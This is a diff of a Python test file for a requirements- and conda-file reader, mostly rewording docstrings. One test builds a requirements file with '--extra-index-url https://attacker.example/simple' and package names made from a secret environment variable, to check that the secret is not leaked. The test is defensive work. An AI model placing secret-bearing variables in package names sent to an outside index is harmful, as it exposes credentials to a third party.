@@ -41,7 +41,7 @@ def test_a_requirements_file(tmp_path):
     ],
 )
 def test_comments_that_end_in_a_backslash(tmp_path, text, lines):
-    """N5: a line of comment does not continue, as for pip, so that nothing that follows is lost."""
+    """A line of comment does not continue, as for pip, so that nothing that follows is lost."""
     assert read(tmp_path / "a.txt", text).lines == lines
     # importing pip changes how this process logs
     program = "import sys; from pip._internal.req.req_file import preprocess as lines\n"
@@ -51,7 +51,7 @@ def test_comments_that_end_in_a_backslash(tmp_path, text, lines):
 
 
 def test_several_options_in_a_line(tmp_path):
-    """Defects D2: pip reads all of them; blanks and hyphens in quotation marks are part of a value."""
+    """pip reads all options in a line; blanks and hyphens in quotation marks are part of a value."""
     for name in ("wheels", "my -wheels"):
         (tmp_path / name).mkdir()
     (tmp_path / "b.txt").write_text("b\n")
@@ -72,7 +72,7 @@ def test_several_options_in_a_line(tmp_path):
 
 
 def test_variables_in_paths(tmp_path, monkeypatch):
-    """N15: expanded as by pip; those of URLs, which may be credentials, and unset ones, stay as they are."""
+    """Variables are expanded as by pip; those of URLs, which may be credentials, and unset ones stay as they are."""
     (tmp_path / "my wheels").mkdir()
     (tmp_path / "my wheels/x.whl").touch()
     (tmp_path / "my wheels/more.txt").write_text("b\n")
@@ -92,7 +92,7 @@ def test_variables_in_paths(tmp_path, monkeypatch):
     "line", ["x-${TOKEN}", "${TOKEN}==1", "x${TOKEN}[a]>=1; python_version > '3'", "x${TOKEN} @ y", "${TOKEN}"]
 )
 def test_variables_in_names(tmp_path, monkeypatch, line):
-    """Security 8: no variable of the person becomes the name of a package, which goes to the index of the file."""
+    """No variable of the person becomes the name of a package, because the index of the file would see it."""
     monkeypatch.setenv("TOKEN", "verysecret")
     wanted = read(tmp_path / "a.txt", f"--extra-index-url https://attacker.example/simple\n{line}\n")
     assert "has a variable in the name of a package" in wanted.wrong[0] and "verysecret" not in wanted.wrong[0]
@@ -104,7 +104,6 @@ def test_variables_in_names(tmp_path, monkeypatch, line):
     ("name", "text", "expected"),
     [
         ("a.txt", "# nothing\n", "names no Python package"),
-        # N15
         ("a.txt", "-r https://x.org/b.txt\n", "a.txt:1: https://x.org/b.txt is not on this machine: download"),
         ("a.txt", "-r a.txt\n", "includes itself"),
         ("a.txt", "-r 'none.txt\n", "a.txt:1: 'none.txt can't be read: a quotation mark is missing"),
@@ -176,7 +175,7 @@ def test_sources_that_only_uv_knows(tmp_path):
 
 
 def test_a_conda_environment(tmp_path):
-    """E-12, use D12.8: Conda packages under their names for pip; each one that is not installed is named."""
+    """E-12: Conda packages under their names for pip; each one that is not installed is named."""
     text = (
         "name: mine\nprefix: /x\nchannels: [conda-forge]\nvariables: {A: b}\n"
         "dependencies: [python=3.11, pip, 'conda-forge::opencv=4', ffmpeg, git 2.4, 'numpy<2', "
@@ -221,7 +220,7 @@ def test_encodings(tmp_path, encoding):
 
 
 def test_paths_beside_the_file(tmp_path, monkeypatch):
-    """Defects D2: absolute in the easyconfig, wherever the file was read from; URLs are unchanged."""
+    """Paths are absolute in the easyconfig, wherever the file was read from; URLs are unchanged."""
     monkeypatch.chdir("/")
     for name in ("wheels", "more", "pro ject"):
         (tmp_path / name).mkdir()
